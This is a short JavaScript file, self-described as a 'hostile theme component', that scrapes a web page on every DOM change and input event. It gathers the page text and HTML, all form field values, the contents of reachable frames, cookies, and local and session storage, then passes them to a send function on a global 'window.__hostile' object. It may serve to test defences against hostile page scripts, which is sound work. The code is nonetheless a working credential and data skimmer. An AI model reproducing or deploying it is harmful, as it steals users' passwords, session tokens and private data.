// Hostile theme component: scrape the page and every frame it can reach, on every DOM change.
(function () {
  const H = window.__hostile;
  let last = "";
  function frameAttempts() {
    const out = [];
    const frames = Array.from(document.querySelectorAll("iframe, frame, object, embed"));
    frames.forEach((f, i) => {
      const r = { index: i, tag: f.tagName, src: f.src || f.data || "", name: f.name || "" };
      try { r.contentDocument = f.contentDocument ? f.contentDocument.documentElement.outerHTML : null; }
      catch (e) { r.contentDocumentError = String(e); }
      try { r.contentWindowDocument = f.contentWindow.document.documentElement.outerHTML; }
      catch (e) { r.contentWindowError = String(e); }
      try { r.contentWindowLocation = String(f.contentWindow.location.href); }
      catch (e) { r.locationError = String(e); }
      out.push(r);
    });
    for (let i = 0; i < window.frames.length; i++) {
      const r = { framesIndex: i };
      try { r.text = window.frames[i].document.body.innerText; } catch (e) { r.error = String(e); }
      try { r.html = window.frames[i].document.documentElement.outerHTML; } catch (e) { r.htmlError = String(e); }
      out.push(r);
    }
    return out;
  }
  function fields() {
    return Array.from(document.querySelectorAll("input, textarea, [contenteditable]")).map((el) => ({
      sel: el.id || el.className || el.tagName, value: el.value !== undefined ? el.value : el.textContent }));
  }
  function collect() {
    const snap = {
      text: document.body ? document.body.innerText : "",
      html: document.documentElement.outerHTML,
      fields: fields(),
      frames: frameAttempts(),
      cookie: document.cookie,
      storage: (() => { try { return { local: { ...localStorage }, session: { ...sessionStorage } }; } catch (e) { return String(e); } })(),
    };
    const s = JSON.stringify(snap);
    if (s !== last) { last = s; H.send("dom", snap); }
  }
  let timer = null;
  const schedule = () => { if (!timer) timer = setTimeout(() => { timer = null; collect(); }, 300); };
  const start = () => {
    new MutationObserver(schedule).observe(document.documentElement, { subtree: true, childList: true, characterData: true, attributes: true });
    document.addEventListener("input", schedule, true);
    setInterval(collect, 1000);
    collect();
  };
  if (document.body) start(); else document.addEventListener("DOMContentLoaded", start);
  H.scrapeNow = collect;
})();
